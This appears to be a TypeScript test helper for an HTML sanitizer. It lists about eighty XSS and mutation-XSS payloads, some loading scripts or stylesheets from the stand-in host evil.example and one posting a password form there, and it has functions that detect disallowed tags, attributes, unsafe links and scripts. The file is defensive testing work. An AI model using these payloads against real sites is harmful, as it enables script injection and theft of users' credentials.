import {
  defaultTreeAdapter,
  html,
  parse,
  parseFragment,
  serialize,
  type DefaultTreeAdapterTypes,
} from 'parse5';

type Node = DefaultTreeAdapterTypes.ChildNode;

/** HTML that tries to run something, to look like something else or to break out of where it stands: classics of the filter evasion sheets and of mutation XSS. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/random>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<script>alert(1)//',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src=javascript:alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<p onclick\n=\nalert(1)>x</p>',
  '<body onload=alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="filesystem:https://evil.example/x">x</a>',
  '<a href="https://ok.example" target=_blank rel=opener ping="//evil.example" download>x</a>',
  '<a href="https://ok.example/&quot;onclick=alert(1) x=&quot;">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--> <img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<style>@import "//evil.example/x.css";*{background:url(javascript:alert(1))}</style>x',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<td colspan="1 onclick=alert(1)">x</td>',
  '<p id=root class=modal data-testid=x contenteditable>x</p>',
  '<custom-element onfoo=alert(1)>x</custom-element>',
  '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;',
  '<p>unclosed <b>bold <a href="https://ok.example">link',
  '</main></div></body></html><script>alert(1)</script>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>${'</div>'.repeat(600)}`,
  '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜script＞alert(1)＜/script＞<img src=x onerror=alert(1)>',
];

const tags = new Set(
  (
    'p div br hr ul ol li dl dt dd h2 h3 h4 h5 h6 strong b em i u s sub sup small blockquote pre code a ' +
    'table thead tbody tfoot tr th td caption'
  ).split(' '),
);
const attributes: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'rel'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};

/** What a browser would make of stored HTML that no posting may bring; empty for harmless HTML. */
export function dangersIn(stored: string): string[] {
  const fragment = parseFragment(stored);
  const dangers = fragment.childNodes.flatMap(dangersOf);
  // Mutation XSS: what is harmless when read once and is something else when read again.
  const once = serialize(fragment);
  const isStable = serialize(parseFragment(once)) === once;
  return isStable ? dangers : [...dangers, 'changes when it is read again'];
}

function dangersOf(node: Node): string[] {
  if (defaultTreeAdapter.isTextNode(node)) return [];
  if (!defaultTreeAdapter.isElementNode(node)) return [`a node of kind ${node.nodeName}`];
  const { tagName, namespaceURI, attrs, childNodes } = node;
  const isKnown = tags.has(tagName) && namespaceURI === html.NS.HTML;
  const own = isKnown ? [] : [`<${tagName}>`];
  const forbidden = attrs
    .filter(({ name }) => attributes[tagName]?.includes(name) !== true)
    .map(({ name }) => `${tagName} ${name}`);
  const links = attrs
    .filter(({ name, value }) => name === 'href' && !isHarmless(value))
    .map(({ value }) => `href ${value}`);
  return [...own, ...forbidden, ...links, ...childNodes.flatMap(dangersOf)];
}

/** As a browser resolves it on a page of ours: to the web, mail or telephone, and to another site only by a whole address. */
function isHarmless(href: string): boolean {
  const url = URL.parse(href, 'https://page.invalid/jobs/1');
  if (url === null || !['http:', 'https:', 'mailto:', 'tel:'].includes(url.protocol)) return false;
  return url.host === 'page.invalid' || /^https?:/i.test(href);
}

/** The scripts of a whole page that a browser would run or read, by their type or address; and every handler. */
export function scriptsIn(page: string): string[] {
  const found: string[] = [];
  const visit = (node: Node): void => {
    if (!defaultTreeAdapter.isElementNode(node)) return;
    const { tagName, attrs } = node;
    const valueOf = (name: string) => attrs.find((attribute) => attribute.name === name)?.value;
    if (tagName === 'script') found.push(valueOf('src') ?? valueOf('type') ?? 'inline');
    found.push(...attrs.filter(({ name }) => name.startsWith('on')).map(({ name }) => `${tagName} ${name}`));
    node.childNodes.forEach(visit);
  };
  parse(page).childNodes.forEach(visit);
  return found;
}
